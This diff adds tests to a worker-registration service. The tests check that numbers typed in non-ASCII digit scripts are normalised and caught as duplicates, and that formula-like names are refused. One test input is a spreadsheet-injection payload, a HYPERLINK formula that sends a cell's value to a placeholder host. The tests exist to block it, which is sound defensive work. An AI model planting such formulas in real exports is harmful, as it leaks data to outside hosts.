@@ -100,3 +100,65 @@ def test_registration_is_audited_without_the_clear_id_number(home_unit):
     event = AuditEvent.objects.get(action="register_worker")
     assert NUMBER not in str(event.after)
     assert event.after["id_number"].startswith("1502")
+
+
+# --- one person, one registration, whatever digits the number is typed in (issue 16, item 15) ---
+
+ZEROS = {"full-width": 0xFF10, "arabic-indic": 0x0660, "devanagari": 0x0966, "mongolian": 0x1810}
+# ends in X: before the fix the check digit then matched whatever digits the rest was typed in
+MAN = make_resident_id(KUNDULUN, date(1985, 3, 2), 29)
+
+
+def in_script(text: str, script: str) -> str:
+    return "".join(chr(ZEROS[script] + int(c)) if c.isdigit() else c for c in text)
+
+
+@pytest.mark.parametrize("script", list(ZEROS))
+def test_a_registered_persons_number_in_other_digits_is_refused_as_a_duplicate(home_unit, other_unit, script):
+    register(home_unit, id_number=MAN)
+    with pytest.raises(Conflict, match="已登记"):
+        register(other_unit, name="另一个人", id_number=in_script(MAN, script))
+    assert Worker.objects.count() == 1
+
+
+@pytest.mark.parametrize("script", list(ZEROS))
+def test_a_number_in_other_digits_is_stored_in_ascii_with_the_right_gender(home_unit, script):
+    worker = register(home_unit, id_number=in_script(MAN, script), phone=in_script("13900001111", script),
+                      bank_account=in_script("6222021234567890123", script))
+    worker.refresh_from_db()
+    assert (worker.reveal_id_number(), worker.gender, worker.birth_on) == (MAN, "M", date(1985, 3, 2))
+    assert worker.id_number_index == blind_index(MAN)
+    assert worker.phone == "13900001111"
+    assert (worker.reveal_bank_account(), worker.bank_account_index) == ("6222021234567890123",
+                                                                         blind_index("6222021234567890123"))
+
+
+def test_a_bank_account_with_letters_is_refused_naming_the_field(home_unit):
+    with pytest.raises(ValidationFailed) as caught:
+        register(home_unit, bank_account="6222〇21234567890123")
+    assert caught.value.field == "bank_account" and "银行卡号" in caught.value.message
+
+
+@pytest.mark.parametrize("script", list(ZEROS))
+def test_a_units_credit_code_in_other_digits_is_the_same_unit(db, script):
+    unit = make_unit()
+    with pytest.raises(Conflict):
+        services.register_unit(actor=None, scope=SYSTEM, name="重复", credit_code=in_script(unit.credit_code, script),
+                               county_code=KUNDULUN)
+
+
+# --- names that would run as spreadsheet formulas (issue 16, item 14) ---
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/"&C2,"点我")', "\t=1+1", " @SUM(A1)"])
+def test_a_formula_name_is_refused_at_registration(home_unit, name):
+    with pytest.raises(ValidationFailed, match="公式") as caught:
+        register(home_unit, name=name)
+    assert caught.value.field == "name"
+    assert not Worker.objects.exists()
+
+
+def test_a_formula_unit_name_is_refused(db):
+    with pytest.raises(ValidationFailed, match="公式") as caught:
+        services.register_unit(actor=None, scope=SYSTEM, name="=1+1", county_code=KUNDULUN,
+                               credit_code=make_credit_code("91", KUNDULUN, "MA0C1234"))
+    assert caught.value.field == "name"
